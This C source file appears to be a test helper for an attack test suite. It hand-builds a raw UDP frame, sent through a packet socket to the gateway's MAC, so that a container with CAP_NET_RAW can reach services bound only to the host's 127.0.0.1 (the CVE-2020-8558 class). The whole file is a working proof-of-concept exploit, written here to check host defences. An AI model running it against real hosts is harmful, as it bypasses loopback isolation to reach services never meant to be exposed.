/*
 * t/martian-send.c: for t/673-attacks.t, what a container on the bridge with
 * CAP_NET_RAW can send: one UDP datagram to DST:PORT (127.0.0.1, the host's
 * loopback), framed by hand to the MAC of GATEWAY on IFACE, as no route of
 * the container's own would send it. A host that accepts it (route_localnet
 * on the bridge, no rule against it) delivers it to a service that listens
 * on the host's 127.0.0.1 only (the CVE-2020-8558 class).
 *
 *   martian-send IFACE GATEWAY DST PORT TEXT
 *
 * The gateway must be in the ARP table (ping it first). Exits 0 once sent.
 * Build: musl-gcc -static -o martian-send t/martian-send.c
 */
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* The MAC of IP in /proc/net/arp, as "aa:bb:cc:dd:ee:ff". */
static int arp_lookup(const char *ip, unsigned char mac[6])
{
	FILE *f = fopen("/proc/net/arp", "r");
	char line[256], a[64], m[64];

	while (f && fgets(line, sizeof line, f))
		if (sscanf(line, "%63s %*s %*s %63s", a, m) == 2 && !strcmp(a, ip) &&
		    sscanf(m, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3],
			   &mac[4], &mac[5]) == 6) {
			fclose(f);
			return 0;
		}
	if (f)
		fclose(f);
	return -1;
}

static unsigned short ip_checksum(const void *data, size_t len)
{
	const unsigned short *p = data;
	unsigned long sum = 0;

	for (; len > 1; len -= 2)
		sum += *p++;
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (unsigned short)~sum;
}

int main(int argc, char **argv)
{
	unsigned char frame[1500] = { 0 }, mac[6];
	struct iphdr *ip = (struct iphdr *)frame;
	struct udphdr *udp = (struct udphdr *)(frame + sizeof *ip);
	struct sockaddr_ll to = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP),
				  .sll_halen = 6 };
	size_t text_len, len;
	int fd;

	if (argc != 6) {
		fprintf(stderr, "usage: martian-send IFACE GATEWAY DST PORT TEXT\n");
		return 2;
	}
	text_len = strlen(argv[5]);
	if (text_len > 1000 || arp_lookup(argv[2], mac)) {
		fprintf(stderr, "martian-send: %s: not in /proc/net/arp\n", argv[2]);
		return 2;
	}
	len = sizeof *ip + sizeof *udp + text_len;
	ip->version = 4;
	ip->ihl = 5;
	ip->ttl = 64;
	ip->protocol = IPPROTO_UDP;
	ip->tot_len = htons((unsigned short)len);
	ip->saddr = inet_addr("0.0.0.0");
	ip->daddr = inet_addr(argv[3]);
	udp->uh_sport = htons(40000);
	udp->uh_dport = htons((unsigned short)atoi(argv[4]));
	udp->uh_ulen = htons((unsigned short)(sizeof *udp + text_len));
	memcpy(frame + sizeof *ip + sizeof *udp, argv[5], text_len);
	to.sll_ifindex = (int)if_nametoindex(argv[1]);
	memcpy(to.sll_addr, mac, 6);
	fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
	if (fd < 0 || !to.sll_ifindex) {
		perror("martian-send: socket");
		return 1;
	}
	/* Our own address as the source, so that a reply could come back. */
	{
		int s = socket(AF_INET, SOCK_DGRAM, 0);
		struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(9),
					 .sin_addr.s_addr = inet_addr(argv[2]) };
		socklen_t al = sizeof a;

		if (s >= 0 && !connect(s, (struct sockaddr *)&a, sizeof a) &&
		    !getsockname(s, (struct sockaddr *)&a, &al))
			ip->saddr = a.sin_addr.s_addr;
		if (s >= 0)
			close(s);
	}
	ip->check = ip_checksum(ip, sizeof *ip);
	if (sendto(fd, frame, len, 0, (struct sockaddr *)&to, sizeof to) != (ssize_t)len) {
		perror("martian-send: sendto");
		return 1;
	}
	return 0;
}
